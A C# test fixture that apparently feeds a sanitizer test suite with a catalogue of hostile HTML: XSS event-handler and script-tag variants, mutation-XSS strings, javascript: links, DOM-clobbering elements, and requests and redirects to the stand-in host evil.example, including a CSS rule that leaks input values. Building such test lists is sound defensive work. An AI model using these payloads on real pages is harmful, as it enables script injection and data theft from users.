namespace LogRegCourse.Testing;

/// <summary>
/// Html that tries to run, to ask the outside, to lead away, to lie over the page or to take the names of its scripts.
/// The generator puts two payloads into the ways that are known, in the spellings that browsers forgive.
/// </summary>
internal static class HostileHtml
{
    public const string Outside = "https://evil.example/";

    private const string Run = "window.owned=1;document.title='owned';top.document.title='owned'";

    private static readonly string[] Events =
    [
        "<img src=x onerror=\"{0}\">", "<img/src='data:,'/onerror={1}>", "<svg onload=\"{0}\">", "<svg><animate onbegin=\"{0}\" attributeName=x dur=1s>",
        "<svg><set onbegin=\"{0}\" attributeName=x>", "<details open ontoggle=\"{0}\">x</details>", "<video><source onerror=\"{0}\"></video>",
        "<audio src onerror=\"{0}\">", "<body onload=\"{0}\">", "<input autofocus onfocus=\"{0}\">", "<select autofocus onfocus=\"{0}\">",
        "<textarea autofocus onfocus=\"{0}\"></textarea>", "<div contenteditable autofocus onfocus=\"{0}\" tabindex=0>x</div>", "<marquee onstart=\"{0}\">x</marquee>",
        "<object data=x onerror=\"{0}\"></object>", "<style onload=\"{0}\"></style>", "<link rel=stylesheet href=data:text/css, onload=\"{0}\">",
        "<iframe onload=\"{0}\"></iframe>", "<p style='animation:x 1s' onanimationstart=\"{0}\"><style>@keyframes x{{}}</style></p>",
        "<IMG SRC=x OnErRoR=\"{0}\">", "<math><mtext onmouseover=\"{0}\">x</mtext></math>", "<p onpointerrawupdate=\"{0}\" style='position:fixed;inset:0'>x</p>",
    ];

    private static readonly string[] Scripts =
    [
        "<script>{0}</script>", "<script/x>{0}</script>", "<scr<script>ipt>{0}</scr</script>ipt>", "<svg><script>{0}</script></svg>", "<svg><script href='data:,{1}'/></svg>",
        "<script src='data:text/javascript,{1}'></script>", "<script type=module>{0}</script>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>",
        "<iframe src=\"javascript:{0}\"></iframe>", "<iframe src='data:text/html,<script>{1}</script>'></iframe>", "<object data='data:text/html,<script>{1}</script>'></object>",
        "<embed src='data:text/html,<script>{1}</script>'>", "<template><script>{0}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={1}>\"></noscript>",
        "<div><template shadowrootmode=open><img src=x onerror=\"{0}\"></template></div>", "<svg><foreignObject><iframe srcdoc='<script>{1}</script>'></iframe></foreignObject></svg>",
    ];

    // What a cleaner reads in one way and a browser, after the cleaning, in another.
    private static readonly string[] Mutations =
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={1}&gt;\">", "<svg></p><style><a id=\"</style><img src=x onerror={1}>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"{0}\">", "<math><annotation-xml encoding=\"text/html\"><p><style><img title=\"</style><img src=x onerror={1}>\">",
        "<noembed><img title=\"</noembed><img src=x onerror={1}>\"></noembed>", "<xmp><img title=\"</xmp><img src=x onerror={1}>\"></xmp>", "<!--><img src=x onerror=\"{0}\">-->",
        "<svg><title><style><img title=\"</style></title><img src=x onerror={1}>\">", "</div></div></main></body></html><script>{0}</script>", "<textarea><img title=\"</textarea><img src=x onerror={1}>\"></textarea>",
    ];

    private static readonly string[] Ways =
    [
        "<a href=\"javascript:{0}\">x</a>", "<a href=\"java&#9;script:{0}\">x</a>", "<a href=\"&#1;javascript:{0}\">x</a>", "<a href='data:text/html,<script>{1}</script>'>x</a>", "<a href=\"vbscript:{0}\">x</a>",
        "<svg><a xlink:href=\"javascript:{0}\"><text y=20>x</text></a></svg>", "<form action=\"javascript:{0}\"><button>x</button></form>", "<button formaction=\"javascript:{0}\">x</button>", "<math href=\"javascript:{0}\">x</math>",
    ];

    private static readonly string[] Leading =
    [
        "<meta http-equiv=refresh content='0;url={2}'>", "<base href='{2}'>", "<base target=_top>", "<form action='{2}'><input name=x autofocus></form>", "<meta http-equiv=Set-Cookie content='x=1'>", "<iframe src='{2}' sandbox='allow-top-navigation'></iframe>",
        "<link rel=prefetch href='{2}'>", "<link rel=preconnect href='{2}'>", "<link rel=dns-prefetch href='{2}'>", "<link rel=stylesheet href='{2}x.css'>", "<img src='{2}x.png'>", "<img srcset='{2}x.png 1x'>", "<video poster='{2}x.png'></video>",
        "<table background='{2}x.png'><tr><td>x</td></tr></table>", "<p style=\"background:url({2}x.png)\">x</p>", "<p style=\"list-style-image:url('{2}x.png');display:list-item\">x</p>", "<p style=\"background:u\\72l({2}x.png)\">x</p>",
        "<style>@import '{2}x.css';</style>", "<style>input[value^=a]{{background:url({2}a)}} body{{display:none}}</style>", "<style>@font-face{{font-family:x;src:url({2}x.woff2)}} p{{font-family:x}}</style><p>x</p>",
        "<svg><image href='{2}x.png'/></svg>", "<svg><use href='{2}x.svg#a'/></svg>", "<a href='{2}' ping='{2}'>x</a>", "<audio src='{2}x.mp3' autoplay></audio>", "<picture><source srcset='{2}x.png'><img></picture>",
    ];

    private static readonly string[] Names =
    [
        "<img id=exports><img name=currentScript data-plotly='{2}x.js'>", "<a id=katex></a><a id=Plotly></a><a id=figures></a>", "<form id=takeAway><input name=offerTables></form>", "<img name=querySelector><img name=body><img name=head>",
        "<a id=module></a><a id=define></a><a id=DOMPurify></a>", "<meta name=plotly content='{2}x.js'>", "<iframe name=typeset srcdoc=x></iframe>", "<div id=content class='banner notice dialog menu' style='position:fixed;inset:0;z-index:99'>x</div>",
        "<script type=application/json class=figure>{{\"data\":[],\"layout\":{{\"images\":[{{\"source\":\"{2}x.png\"}}]}}}}</script>",
    ];

    /// <summary>Every vector, in the order that the lists above have.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Events.Concat(Scripts).Concat(Mutations).Concat(Ways).Concat(Leading).Concat(Names).Select(way => string.Format(null, way, Run, Run.Replace("'", "&#39;", StringComparison.Ordinal), Outside))];
}
